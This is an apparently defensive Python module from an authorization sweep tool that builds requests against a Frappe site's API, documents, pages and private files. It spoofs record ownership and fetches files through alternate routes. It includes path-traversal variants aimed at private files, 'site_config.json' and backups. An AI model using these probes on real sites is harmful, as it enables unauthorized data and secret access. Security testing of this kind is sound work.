"""The requests of the sweeps: of functions, and of documents, routes and pages."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator

import frappe
from frappe.model.document import Document
from sweep_doors import Door, Route, methods_of, methods_of_all, pages, routes
from sweep_run import Call
from sweep_special import made_up as special_records
from sweep_special import special
from sweep_values import Asked, Values
from sweep_victim import Target, Victim

ALIASES = 2  # of a function that many modules import


def of_function(values: Values, door: Door) -> list[Call]:
	"""Return the requests for one function: all by its own address, one by each other way that leads to it."""
	asked = [*values.for_door(door), *(Asked(data, "") for data in special(values.victim).get(door.name, ()))]
	own = f"/api/method/{door.address}"
	calls = [Call(door.name, door.verb, own, one.data, one.about, one.as_json) for one in asked]
	others = [f"/api/method/{alias}" for alias in door.aliases[:ALIASES]]
	others += [f"/api/v2/method/{door.address}", f"/?cmd={door.address}"]
	for path, one in zip(others, itertools.cycle(asked[::-1]), strict=False):
		if path.startswith("/?"):
			calls.append(Call(door.name, door.verb, "/", {**one.data, "cmd": door.address}, one.about))
		else:
			calls.append(Call(door.name, door.verb, path, one.data, one.about, one.as_json))
	return calls


# Documents


def of_documents(victim: Victim, values: Values) -> Iterator[tuple[str, list[Call]]]:
	"""Yield the requests for each method of a DocType's documents: stored ones of ours, and ones that the client makes up."""
	for doctype, methods in methods_of_all():
		stored = [target for target in values.every if target.doctype == doctype][:1]
		tool = (
			[] if doctype in {target.doctype for target in victim.targets} else list(made_up(values, doctype))
		)
		for method in methods if stored or tool else ():
			calls = []
			for target in stored:
				calls += [*of_stored(target, method), *of_sent(doctype, method, sent(target))]
			if method not in methods_of(Document):
				calls += of_sent(doctype, method, tool)
			if calls and (method not in methods_of(Document) or not tool):
				yield calls[0].door, calls
	for method, doc in special_records(victim):
		yield f"{doc['doctype']}.{method}", list(of_sent(doc["doctype"], method, [doc]))


def of_stored(target: Target, method: str) -> Iterator[Call]:
	doctype, name = target.doctype, target.name
	door, args = f"{doctype}.{method}", {"text": "changed", "name": "changed"}
	data = {"dt": doctype, "dn": name, "method": method, "args": args}
	for verb in ("POST", "GET"):
		yield Call(door, verb, "/api/method/run_doc_method", data, doctype)
		yield Call(door, verb, f"/api/resource/{doctype}/{name}", {"run_method": method, **args}, doctype)
		yield Call(door, verb, f"/api/v2/document/{doctype}/{name}/method/{method}", args, doctype)


def sent(target: Target) -> Iterator[dict]:
	"""Yield a stored record as a client would send it: as it is, as its own, as a new one."""
	one = {"doctype": target.doctype, "name": target.name}
	yield one
	yield {**one, "owner": "{me}", "opd": "DINSOS", target.field: "changed"}
	yield {**one, "owner": "{me}", "__islocal": 1, "opd": "DINSOS"}


def of_sent(doctype: str, method: str, docs: Iterator[dict]) -> Iterator[Call]:
	door, args = f"{doctype}.{method}", {"text": "changed"}
	for doc in docs:
		yield Call(
			door, "POST", "/api/method/run_doc_method", {"method": method, "docs": doc, "args": args}, doctype
		)
		data = {"method": method, "document": doc, "kwargs": args}
		yield Call(door, "POST", "/api/v2/method/run_doc_method", data, doctype)


def made_up(values: Values, doctype: str) -> Iterator[dict]:
	"""Yield records of a tool that name the victim in their fields; none for a DocType in which nothing can be named."""
	fields = values.naming(doctype)
	if not fields:
		return
	one = {"doctype": doctype, "__islocal": 1, "owner": "{me}", **fields}
	yield one
	if frappe.get_meta(doctype).issingle:
		yield {**one, "name": doctype}


# Routes and pages


def of_routes(victim: Victim, values: Values) -> Iterator[tuple[str, list[Call]]]:
	"""Yield the requests for each route of the API; where two lead to the same, the second is asked once by each verb."""
	seen = set()
	for route in routes():
		calls = []
		for verb in route.verbs:
			found = list(of_route(victim, values, route, verb))
			asks = (
				"doctype" in route.places and "method" not in route.places and not route.rule.endswith("meta")
			)
			once = (route.endpoint, verb) in seen or not asks
			seen.add((route.endpoint, verb))
			calls += found[:1] if once else found
		yield route.rule, calls


def of_route(victim: Victim, values: Values, route: Route, verb: str) -> Iterator[Call]:
	for target in victim.targets:
		path = filled(route.rule, target)
		if "name" in route.places:
			bodies = [{target.field: "changed"}] if verb not in ("GET", "DELETE") else [{}]
			yield from (Call(route.rule, verb, path, body, target.doctype) for body in bodies)
		elif verb == "GET":
			yield from (Call(route.rule, verb, path, body, target.doctype) for body in lists(values, target))
		else:
			body = {"doctype": target.doctype, target.field: "changed", "opd": "RSP PENDOPO"}
			yield Call(route.rule, verb, path, body, target.doctype)


def lists(values: Values, target: Target) -> Iterator[dict]:
	"""Yield what a list of the API can be asked: fields, conditions, an order."""
	parent = {"parent": target.parent, "parent_doctype": target.parent}
	yield {"fields": ["*"], "filters": [["name", "=", target.name]], **parent}
	if not target.central:
		return
	yield from ({"fields": value, **parent} for value in values.field_lists(target))
	for name in ("filters", "or_filters"):
		yield from ({name: value, **parent} for value in values.conditions(target))
	for name in ("order_by", "group_by"):
		yield from ({name: value, **parent} for value in values.columns(target))


def filled(rule: str, target: Target) -> str:
	places = {"doctype": target.doctype, "name": target.name, "method": "get_list"}
	return re.sub(r"<(?:\w+:)?(\w+)>", lambda found: places[found[1]], rule)


def of_pages(victim: Victim) -> Iterator[tuple[str, list[Call]]]:
	"""Yield pages of the site, asked about records of the victim, and addresses of its files."""
	for page in pages():
		path = f"/{page}"
		calls = [
			Call(
				path,
				"GET",
				path,
				{"doctype": target.doctype, "name": target.name, **WITH_A_PAGE},
				target.doctype,
			)
			for target in (victim.central() if page == "printview" else victim.central()[:1])
		]
		calls.append(
			Call(
				path,
				"GET",
				path,
				{"q": victim.word, "txt": victim.word, "doctype": "P2HAM Evidence"},
				"P2HAM Evidence",
			)
		)
		yield path, calls
	yield from ((path, [Call(path, "GET", path, {})]) for path in of_files(victim.file_url))
	for target in victim.central():
		one = {"doctype": target.doctype, "name": target.name}
		for path in (
			"/list",
			"/form",
			f"/{target.doctype}/{target.name}",
			f"/print/{target.doctype}/{target.name}",
		):
			yield path, [Call(path, "GET", path, one, target.doctype)]


def of_files(url: str) -> list[str]:
	"""Return the address of a private file as it is, spelled differently, and as if it were a public one."""
	return [
		url,
		url.replace("/files/", "/files//"),
		url.replace("/private", ""),
		url.replace("/private/files/", "/files/../private/files/"),
		url.replace("/private/files/", "/private/files/%2e%2e/files/"),
		f"/files/..%2f..{url}",
		f"/assets/../{url}",
		"/files/../../site_config.json",
		"/backups/x",
	]


WITH_A_PAGE = {"format": "Standard", "no_letterhead": 1, "trigger_print": 0}
